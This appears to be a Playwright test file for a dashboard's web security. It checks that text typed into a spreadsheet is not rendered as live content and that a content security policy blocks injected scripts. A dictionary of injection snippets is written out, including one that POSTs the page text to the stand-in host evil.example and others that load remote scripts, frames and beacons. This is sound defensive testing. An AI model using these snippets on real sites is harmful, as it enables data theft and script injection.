"""What is typed into the sheet neither runs nor fetches anything in a browser, and would not even if it got through."""

import contextlib
import re
import socket
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page
from playwright.sync_api import Error as PlaywrightError

from tests.browser.conftest import Visit, settle
from tests.web import attacks, plan
from tests.web.served import Served, serving

ADDRESSES = [
    "",
    "calendar",
    "calendar?event=E20",
    "calendar?event=E26",
    "staffing",
    "staffing?show=People",
    "attendance",
    "attendance?by=Town",
    "follow_ups",
    "sheet_health",
    "changes",
    "reports",
]
"""What each of them is sent in all its views, `tests/web/test_attacks.py` looks through."""


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("attacked")
    workbook = attacks.save(folder / "plan.xlsx", plan.real_today())
    with serving(folder, {"CWAC_WORKBOOK": str(workbook), "CWAC_LOCAL": "true"}) as served:
        yield served


def test_nothing_typed_is_run_fetched_linked_or_formatted(visit: Visit, attacked: Served) -> None:
    """`visit` itself fails on any request to elsewhere, any dialog and any script's error."""
    seen: set[int] = set()
    for address in ADDRESSES:
        page = visit(attacked, address)
        _stir(page)
        body = page.locator("body")
        links = body.locator("a[href]").evaluate_all("links => links.map(link => link.getAttribute('href'))")
        maps = re.compile(r"https://www\.google\.com/maps/search/\?[^\s]*")
        assert [
            one for one in links if "evil" in maps.sub("", one) or re.match(r"(?i)javascript|data|mailto", one)
        ] == []
        assert body.locator("[data-testid=stMain] img[src^=http]:not([src*=localhost])").count() == 0
        assert (
            body.locator(".katex, [data-testid=stMarkdownColoredText], iframe, [data-testid=stDialog] img").count() == 0
        )
        live = body.locator("[data-testid=stMain] :is(script, style, svg[onload], [onerror], [onclick])")
        assert [one for one in live.all_inner_texts() if "evil" in one or "zq" in one] == []
        for tag in ("h1", "h2", "h3", "li", "blockquote", "strong", "em", "code", "mark"):
            inside = " ".join(body.locator(f"[data-testid=stMain] {tag}").all_inner_texts())
            formatted = {attacks.typed(int(mark[2:-1])) for mark in attacks.MARK.findall(inside)}
            for typed in formatted:  # whole where it stands, signs and all
                assert _words(typed)[:20] in _words(inside), (tag, typed)
        seen |= {int(mark[2:-1]) for mark in attacks.MARK.findall(body.inner_text())}
        page.context.close()
    assert {number % len(attacks.ATTACKS) for number in seen} == set(range(len(attacks.ATTACKS)))


def _stir(page: Page) -> None:
    """Open what is closed, and point at what has a tooltip."""
    inert = page.get_by_role("dialog").count() > 0
    for popover in [] if inert else page.get_by_test_id("stPopover").all():
        popover.locator("button").first.click()
        settle(page)
        page.keyboard.press("Escape")
    for chart in page.get_by_test_id("stVegaLiteChart").all():
        box = chart.bounding_box()
        if box:
            for part in (0.2, 0.4, 0.6, 0.8):
                page.mouse.move(box["x"] + box["width"] * part, box["y"] + box["height"] / 2)
                page.wait_for_timeout(50)


def _words(text: str) -> str:
    """Without what stands for nothing, and without the joiners that keep links from being made."""
    return re.sub(r"[\s\u2060\u200b-\u200f\u202a-\u202e\u2066-\u2069\u00a0]+", "", text)


BREAKING_IN = {
    "a picture from elsewhere": "const one = new Image(); one.src = 'http://evil.example/x.png';"
    "document.body.append(one)",
    "a script from elsewhere": "const one = document.createElement('script'); one.src = 'http://evil.example/x.js';"
    "document.body.append(one)",
    "a script in the page": "const one = document.createElement('script'); one.textContent = 'window.broken = 1';"
    "document.body.append(one)",
    "a handler": "const one = document.createElement('div'); one.setAttribute('onclick', 'window.broken = 1');"
    "document.body.append(one); one.click()",
    "a javascript: link": "const one = document.createElement('a'); one.href = 'javascript:window.broken=1';"
    "document.body.append(one); one.click()",
    "eval": "setTimeout('window.broken = 1', 0)",
    "a letter home": "fetch('http://evil.example/', {method: 'POST', body: document.body.innerText}).catch(() => 0)",
    "a beacon": "navigator.sendBeacon('http://evil.example/', 'x')",
    "a socket": "try { new WebSocket('ws://evil.example/') } catch {}",
    "a form": "const one = document.createElement('form'); one.action = 'http://evil.example/'; one.method = 'post';"
    "document.body.append(one); one.submit()",
    "a frame": "const one = document.createElement('iframe'); one.src = 'http://evil.example/';"
    "document.body.append(one)",
    "another base": "const one = document.createElement('base'); one.href = 'http://evil.example/';"
    "document.head.append(one); const two = new Image(); two.src = 'x.png'; document.body.append(two)",
    "a plug-in": "const one = document.createElement('object'); one.data = 'http://evil.example/x.swf';"
    "document.body.append(one)",
    "a style from elsewhere": "const one = document.createElement('link'); one.rel = 'stylesheet';"
    "one.href = 'http://evil.example/x.css'; document.head.append(one)",
}


FRAMES = {"a frame", "a plug-in"}
"""What the developers' way of switching the policy off does not cover."""


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another site, and the first line of whatever reaches it."""
    came: list[str] = []
    with socket.socket() as door:
        door.bind(("127.0.0.1", 0))
        door.listen()

        def wait() -> None:
            while True:
                try:
                    caller, _ = door.accept()
                except OSError:
                    return
                with contextlib.suppress(OSError), caller:
                    caller.settimeout(2)
                    asked = caller.recv(200).decode("latin-1")
                    if asked:  # browsers open connections that they may need
                        came.append(asked.splitlines()[0])
                        caller.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")

        threading.Thread(target=wait, daemon=True).start()
        yield f"127.0.0.1:{door.getsockname()[1]}", came


@pytest.mark.parametrize("guarded", [True, False], ids=["under the policy", "without it"])
def test_the_policy_holds_even_against_a_script_that_got_in(
    browser: Browser, sample: Served, elsewhere: tuple[str, list[str]], guarded: bool
) -> None:
    """And without the policy each of these would work, else the test would prove nothing."""
    there, came = elsewhere
    came.clear()
    context = browser.new_context(bypass_csp=not guarded)
    got = set()
    tried = set(BREAKING_IN) - (set() if guarded else FRAMES)
    page = None
    for how in sorted(tried):
        if page is None or not guarded:  # some of them take the page away
            page = context.new_page()
            page.goto(sample.url)
            page.wait_for_selector("[data-testid=stApp]")
        page.evaluate("() => { window.broken = null }")
        with contextlib.suppress(PlaywrightError):
            page.evaluate(f"() => {{ {BREAKING_IN[how].replace('evil.example', there)} }}")
        for _ in range(5 if guarded else 50):
            page.wait_for_timeout(100)
            if came or page.evaluate("window.broken") is not None:
                got.add(how)
                break
        came.clear()
    context.close()
    assert got == (set() if guarded else tried)


def test_no_other_site_may_show_the_dashboard_in_a_frame(browser: Browser, sample: Served) -> None:
    page = browser.new_page()
    page.set_content(f'<iframe src="{sample.url}"></iframe>')
    page.wait_for_timeout(1500)
    assert "SAMPLE" not in page.frames[-1].content()
    page.close()
